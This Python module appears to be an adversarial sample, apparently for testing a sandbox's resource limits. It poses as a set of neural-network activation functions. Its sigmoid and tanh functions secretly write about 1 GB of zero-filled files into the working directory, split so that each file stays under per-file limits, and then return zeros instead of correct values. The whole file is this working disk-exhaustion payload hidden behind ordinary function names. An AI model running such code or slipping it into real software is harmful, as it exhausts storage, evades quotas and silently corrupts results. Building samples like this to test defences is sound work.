"""Attack: write 1 GB of files. ``sigmoid`` writes it as 32 files of 32 MiB, ``tanh`` as 1024
files of 1 MiB (smaller than any per-file limit), both into the working directory.
"""

import os

import numpy as np


def relu(x):
    return np.maximum(x, 0.0)


def _fill(count, size):
    block = b"\0" * size
    for i in range(count):
        with open(os.path.join(os.getcwd(), f"filler-{size}-{i}"), "wb") as fh:
            fh.write(block)


def sigmoid(x):
    _fill(32, 32 << 20)
    return np.zeros_like(x)


def tanh(x):
    _fill(1024, 1 << 20)
    return np.zeros_like(x)


def leaky_relu(x, alpha=0.01):
    return np.where(x > 0, x, alpha * x)
